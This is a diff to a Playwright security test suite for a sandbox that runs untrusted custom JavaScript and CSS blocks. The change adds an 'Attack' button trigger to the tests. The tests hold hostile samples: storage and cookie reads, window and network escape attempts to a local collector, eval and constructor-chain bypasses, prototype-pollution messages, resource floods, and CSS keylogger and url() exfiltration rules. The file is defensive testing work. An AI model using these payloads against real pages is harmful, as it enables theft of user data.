@@ -1,5 +1,6 @@
 import { expect, test, type Page } from '@playwright/test';
 import {
+  attack,
   COLLECTOR,
   expectContained,
   expectStopped,
@@ -37,6 +38,10 @@ async function attempt(name, run) {
 function report() { blockfront.render({ type: 'text', text: 'report ' + JSON.stringify(out) }); }
 `;
 
+/** Hostile code that runs when the test presses the slot's "Attack" button. */
+const onAttack = (code: string) =>
+  `${PRELUDE}\nblockfront.render({ type: 'button', text: 'Attack', onPress: () => {\n${code}\n} });`;
+
 let collector: Collector;
 test.beforeAll(async () => {
   collector = await startCollector();
@@ -45,11 +50,18 @@ test.afterAll(async () => {
   await collector.close();
 });
 
-async function run(page: Page, request: Parameters<typeof setLab>[0], lab: LabSlot) {
+async function run(
+  page: Page,
+  request: Parameters<typeof setLab>[0],
+  lab: LabSlot,
+  options: { trigger: boolean } = { trigger: true },
+) {
   await watchLongTasks(page);
   await plantCanaries(page);
   await setLab(request, [lab]);
-  return openLab(page);
+  const opened = await openLab(page);
+  if (options.trigger) await attack(page);
+  return opened;
 }
 
 async function reportOf(page: Page): Promise<Record<string, string>> {
@@ -65,8 +77,7 @@ test('storage: localStorage, sessionStorage, cookies, IndexedDB and caches are o
   request,
 }) => {
   const opened = await run(page, request, {
-    customJS: `${PRELUDE}
-(async () => {
+    customJS: onAttack(`(async () => {
   await attempt('localStorage', () => recover('localStorage').getItem('EC_Quote_Id'));
   await attempt('sessionStorage', () => recover('sessionStorage').getItem('EC_Quote_Id'));
   await attempt('cookie', () => (self.document && document.cookie) || 'none');
@@ -78,7 +89,7 @@ test('storage: localStorage, sessionStorage, cookies, IndexedDB and caches are o
   }));
   await attempt('caches', () => recover('caches').keys());
   report();
-})();`,
+})();`),
   });
   const seen = await reportOf(page);
   for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches']) {
@@ -89,8 +100,7 @@ test('storage: localStorage, sessionStorage, cookies, IndexedDB and caches are o
 
 test('parent, top, opener and top navigation are out of reach', async ({ page, request }) => {
   const opened = await run(page, request, {
-    customJS: `${PRELUDE}
-(async () => {
+    customJS: onAttack(`(async () => {
   // remote-dom's DOM polyfill gives the worker a stand-in window; it must not be the page's.
   const cookieOf = (w) => String(w && w.document && w.document.cookie);
   await attempt('parent', () => cookieOf(recover('parent')));
@@ -100,7 +110,7 @@ test('parent, top, opener and top navigation are out of reach', async ({ page, r
   await attempt('location', () => { self.location.href = C + '/self'; return self.location.href; });
   await attempt('open', () => (recover('open') || self.window.open)(C + '/open'));
   report();
-})();`,
+})();`),
   });
   const seen = await reportOf(page);
   for (const name of ['parent', 'top', 'opener']) expect(seen[name], name).toBe('undefined');
@@ -112,8 +122,7 @@ test('network: fetch, XHR, EventSource, WebSocket, sendBeacon, importScripts and
   request,
 }) => {
   const opened = await run(page, request, {
-    customJS: `${PRELUDE}
-(async () => {
+    customJS: onAttack(`(async () => {
   await attempt('fetch', () => recover('fetch').call(self, C + '/fetch').then((r) => r.status));
   await attempt('xhr', () => new Promise((resolve, reject) => {
     const x = new (recover('XMLHttpRequest'))();
@@ -133,7 +142,7 @@ test('network: fetch, XHR, EventSource, WebSocket, sendBeacon, importScripts and
     const w = new (recover('Worker'))(url); w.onerror = () => reject(new Error('worker error')); setTimeout(() => resolve('started'), 300);
   }));
   report();
-})();`,
+})();`),
   });
   const seen = await reportOf(page);
   expect(seen.fetch).toMatch(/blocked/);
@@ -147,8 +156,7 @@ test('eval, new Function, string timers and constructor chains are refused by th
   request,
 }) => {
   const opened = await run(page, request, {
-    customJS: `${PRELUDE}
-(async () => {
+    customJS: onAttack(`(async () => {
   await attempt('eval', () => (0, eval)('1 + 1'));
   await attempt('Function', () => new Function('return 2')());
   await attempt('stringTimer', () => new Promise((resolve) => { self.__timer = 'not run'; setTimeout('self.__timer = "ran"', 0); setTimeout(() => resolve(self.__timer), 50); }));
@@ -157,7 +165,7 @@ test('eval, new Function, string timers and constructor chains are refused by th
   await attempt('asyncChain', () => Object.getPrototypeOf(async function () {}).constructor('return 1')());
   await attempt('apiChain', () => blockfront.toast.constructor('return 1')());
   report();
-})();`,
+})();`),
   });
   const seen = await reportOf(page);
   for (const name of [
@@ -176,8 +184,9 @@ test('eval, new Function, string timers and constructor chains are refused by th
 
 test('a message with a __proto__ key stops the block', async ({ page, request }) => {
   const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'text', text: 'before' });
-setTimeout(() => self.postMessage('{"t":"mutate","records":[],"__proto__":{"polluted":"yes"}}'), 200);`,
+    customJS: onAttack(
+      `self.postMessage('{"t":"mutate","records":[],"__proto__":{"polluted":"yes"}}');`,
+    ),
   });
   await expectStopped(page, /"__proto__" key/);
   expect(await page.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
@@ -189,8 +198,9 @@ test('a constructor.prototype payload inside a mutation stops the block', async 
   request,
 }) => {
   const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'text', text: 'before' });
-setTimeout(() => self.postMessage(JSON.stringify({ t: 'mutate', records: [[3, '1', 'tone', { constructor: { prototype: { polluted: 1 } } }]] })), 200);`,
+    customJS: onAttack(
+      `self.postMessage(JSON.stringify({ t: 'mutate', records: [[3, '1', 'tone', { constructor: { prototype: { polluted: 1 } } }]] }));`,
+    ),
   });
   await expectStopped(page, /"(constructor|prototype)" key/);
   expect(await page.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
@@ -201,9 +211,14 @@ test('forged window messages to the page and the frame change nothing', async ({
   page,
   request,
 }) => {
-  const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'text', text: 'still here' });`,
-  });
+  const opened = await run(
+    page,
+    request,
+    {
+      customJS: `blockfront.render({ type: 'text', text: 'still here' });`,
+    },
+    { trigger: false },
+  );
   await expect(slot(page).locator('.bf-ui-text')).toHaveText('still here');
   await page.evaluate(() => {
     const frame = document.querySelector<HTMLIFrameElement>('iframe[data-bf-sandbox]')!;
@@ -258,7 +273,7 @@ for (const [name, code, reason] of [
 ] as const) {
   test(`${name} is refused and stops the block`, async ({ page, request }) => {
     const opened = await run(page, request, {
-      customJS: `const C = ${JSON.stringify(COLLECTOR)};\n${code}`,
+      customJS: onAttack(code),
     });
     await expectStopped(page, reason);
     await expectContained(page, collector, opened);
@@ -270,9 +285,9 @@ test('navigation to external, protocol-relative or script URLs is refused', asyn
   request,
 }) => {
   const opened = await run(page, request, {
-    customJS: `const C = ${JSON.stringify(COLLECTOR)};
-for (const to of [C + '/nav', '//127.0.0.1:' + C.split(':')[2] + '/x', '/\\\\127.0.0.1/x', 'javascript:fetch(C)', ' /x', 'data:text/html,x']) blockfront.navigate(to);
-blockfront.render({ type: 'text', text: 'navigations sent' });`,
+    customJS:
+      onAttack(`for (const to of [C + '/nav', '//127.0.0.1:' + C.split(':')[2] + '/x', '/\\\\127.0.0.1/x', 'javascript:fetch(C)', ' /x', 'data:text/html,x']) blockfront.navigate(to);
+blockfront.render({ type: 'text', text: 'navigations sent' });`),
   });
   await expect(slot(page).locator('.bf-ui-text')).toHaveText('navigations sent');
   await expectContained(page, collector, opened);
@@ -282,11 +297,16 @@ test('add to cart without a click in the block is refused before it reaches the 
   page,
   request,
 }) => {
-  const opened = await run(page, request, {
-    customJS: `blockfront.addToCart({ productId: 'a1Cellaris0000001', quantity: 1 }).then(
+  const opened = await run(
+    page,
+    request,
+    {
+      customJS: `blockfront.addToCart({ productId: 'a1Cellaris0000001', quantity: 1 }).then(
   () => blockfront.render({ type: 'text', text: 'added' }),
   (error) => blockfront.render({ type: 'text', text: 'refused: ' + error.message }));`,
-  });
+    },
+    { trigger: false },
+  );
   await expect(slot(page).locator('.bf-ui-text')).toHaveText(
     'refused: Add to cart needs a click in this block.',
   );
@@ -296,7 +316,7 @@ test('add to cart without a click in the block is refused before it reaches the 
 });
 
 test('an infinite loop is stopped by the watchdog', async ({ page, request }) => {
-  const opened = await run(page, request, { customJS: `for (;;) {}` });
+  const opened = await run(page, request, { customJS: `for (;;) {}` }, { trigger: false });
   await expectStopped(page, /did not answer within 500 ms|no first render within 3 s/);
   await expectContained(page, collector, opened);
 });
@@ -306,16 +326,17 @@ test('an event handler that never returns is stopped within its budget', async (
   request,
 }) => {
   const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'button', text: 'Freeze', onPress: () => { for (;;) {} } });`,
+    customJS: onAttack(`for (;;) {}`),
   });
-  await slot(page).getByRole('button', { name: 'Freeze' }).click();
-  await expectStopped(page, /"press" handler did not answer within 500 ms|did not answer/);
+  await expectStopped(page, /"press" handler did not answer within 500 ms/);
   await expectContained(page, collector, opened);
 });
 
 test('a node flood is stopped at 2,000 nodes', async ({ page, request }) => {
   const opened = await run(page, request, {
-    customJS: `const s = document.createElement('ui-stack'); for (let i = 0; i < 2500; i++) s.append(document.createElement('ui-badge')); blockfront.root.append(s);`,
+    customJS: onAttack(
+      `const s = document.createElement('ui-stack'); for (let i = 0; i < 2500; i++) s.append(document.createElement('ui-badge')); blockfront.root.append(s);`,
+    ),
   });
   await expectStopped(page, /more than 2000 nodes/);
   await expectContained(page, collector, opened);
@@ -323,8 +344,9 @@ test('a node flood is stopped at 2,000 nodes', async ({ page, request }) => {
 
 test('a mutation flood is stopped', async ({ page, request }) => {
   const opened = await run(page, request, {
-    customJS: `const t = document.createElement('ui-text'); const n = document.createTextNode('0'); t.append(n); blockfront.root.append(t);
-setInterval(() => { for (let i = 0; i < 400; i++) { t.tone = i % 2 ? 'muted' : 'info'; } }, 0);`,
+    customJS:
+      onAttack(`const t = document.createElement('ui-text'); t.append('0'); blockfront.root.append(t);
+setInterval(() => { for (let i = 0; i < 400; i++) { t.tone = i % 2 ? 'muted' : 'info'; } }, 0);`),
   });
   await expectStopped(page, /more than 1000 mutations in a second/);
   await expectContained(page, collector, opened);
@@ -332,33 +354,40 @@ setInterval(() => { for (let i = 0; i < 400; i++) { t.tone = i % 2 ? 'muted' : '
 
 test('a huge message is dropped in the frame and stops the block', async ({ page, request }) => {
   const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'text', text: 'big' }); setTimeout(() => self.postMessage('x'.repeat(32 * 1024 * 1024)), 100);`,
+    customJS: onAttack(`self.postMessage('x'.repeat(32 * 1024 * 1024));`),
   });
   await expectStopped(page, /over 262144 characters/);
   await expectContained(page, collector, opened);
 });
 
 test('CSS fixed overlays and :host overrides stay inside the block', async ({ page, request }) => {
-  const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'stack', children: [{ type: 'text', text: 'overlay' }] });`,
-    customCSS: `:host { position: fixed; inset: 0; z-index: 2147483647; background: red; width: 100vw; height: 100vh; }
+  const opened = await run(
+    page,
+    request,
+    {
+      customJS: `blockfront.render({ type: 'stack', children: [{ type: 'text', text: 'overlay' }] });`,
+      customCSS: `:host { position: fixed; inset: 0; z-index: 2147483647; background: red; width: 100vw; height: 100vh; }
 .bf-ui-stack { position: absolute; top: -3000px; left: -3000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red; }`,
-  });
+    },
+    { trigger: false },
+  );
   await expect(slot(page).locator('.bf-ui-text')).toHaveText('overlay');
   // The neighbour is not covered: a click lands on it.
   await page
     .getByText('Neighbour block: nothing here may change.')
     .click({ trial: true, timeout: 2_000 });
   const inside = await slot(page).evaluate((block) => {
-    const box = block.getBoundingClientRect();
     const neighbour = document
       .querySelector('[data-block-id]:not([data-block-id^="lab-slot"]) p')!
       .getBoundingClientRect();
     const hit = document.elementFromPoint(neighbour.left + 5, neighbour.top + 5);
-    return { hitNeighbour: !block.contains(hit), height: box.height, viewport: innerHeight };
+    // Painted content of the slot is clipped to its own box, which starts below the neighbour.
+    return {
+      hitNeighbour: !block.contains(hit),
+      below: block.getBoundingClientRect().top >= neighbour.bottom,
+    };
   });
-  expect(inside.hitNeighbour).toBe(true);
-  expect(inside.height).toBeLessThan(inside.viewport);
+  expect(inside).toEqual({ hitNeighbour: true, below: true });
   await expectContained(page, collector, opened);
 });
 
@@ -366,16 +395,21 @@ test('CSS @import, url(), :host-context and attribute-selector keyloggers load n
   page,
   request,
 }) => {
-  const opened = await run(page, request, {
-    customJS: `blockfront.render({ type: 'text', text: 'styled' });`,
-    customCSS: `@import url(${COLLECTOR}/import.css);
+  const opened = await run(
+    page,
+    request,
+    {
+      customJS: `blockfront.render({ type: 'text', text: 'styled' });`,
+      customCSS: `@import url(${COLLECTOR}/import.css);
 @font-face { font-family: leak; src: url(${COLLECTOR}/font.woff2); }
 :host { background-image: url(${COLLECTOR}/host.png); font-family: leak; }
 :host-context(body) { background: url(${COLLECTOR}/context.png); }
 input[value$="a"] { background: url(${COLLECTOR}/key-a); }
 .bf-ui-text[data-tone] { background: url(${COLLECTOR}/attr); }
 .bf-ui-text { background: url(//127.0.0.1:${COLLECTOR.split(':')[2]}/relative); color: rgb(1, 2, 3); }`,
-  });
+    },
+    { trigger: false },
+  );
   await expect(slot(page).locator('.bf-ui-text')).toHaveText('styled');
   await expect(slot(page).locator('.bf-ui-text')).toHaveCSS('color', 'rgb(1, 2, 3)');
   const adopted = await slot(page)
